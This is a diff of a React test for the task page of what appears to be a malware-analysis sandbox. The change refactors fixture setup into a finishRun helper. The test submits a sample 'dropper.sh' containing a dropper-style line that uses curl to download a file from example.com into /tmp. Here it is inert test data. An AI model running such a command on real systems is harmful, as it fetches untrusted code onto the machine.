@@ -13,7 +13,7 @@ import { cleanup, render, screen, waitFor, within } from '@testing-library/react
 import userEvent from '@testing-library/user-event'
 import { QueryClient, QueryClientProvider } from '@tanstack/react-query'
 import { MemoryRouter, Route, Routes } from 'react-router'
-import { startHarness, type Harness } from '../../../../test/service-harness'
+import { finishRun, startHarness, type Harness } from '../../../../test/service-harness'
 import { setLocalApiBase } from '../api/http'
 import { TaskPage } from './Task'
 
@@ -43,7 +43,6 @@ beforeAll(async () => {
   h = await startHarness({ engine: true, machines: { machines: [] } })
   setLocalApiBase(h.url)
   id = await submit('dropper.sh', '#!/bin/sh\ncurl http://example.com/x -o /tmp/x\n')
-  const dir = h.analysisDir(id)
   const now = Date.now()
   const jpeg = await sharp({ create: { width: 8, height: 6, channels: 3, background: '#c00' } }).jpeg().toBuffer()
   const files: Record<string, string | Buffer> = {
@@ -60,12 +59,7 @@ beforeAll(async () => {
     'shots/0001.jpg': jpeg, 'shots/0002.jpg': jpeg,
     'memory/11-1.dmp': Buffer.alloc(4096, 1)
   }
-  for (const [rel, content] of Object.entries(files)) {
-    mkdirSync(path.dirname(path.join(dir, rel)), { recursive: true })
-    writeFileSync(path.join(dir, rel), content)
-  }
-  h.sql("UPDATE tasks SET status = 'completed', started_on = datetime('now', 'localtime'), completed_on = datetime('now', 'localtime') WHERE id = ?", id)
-  h.service.engine!.processPending()
+  finishRun(h, id, files)
   expect(await waitForTask(h, id, ['reported', 'failed_processing'], 30_000)).toBe('reported')
 })
 afterAll(async () => h?.stop())
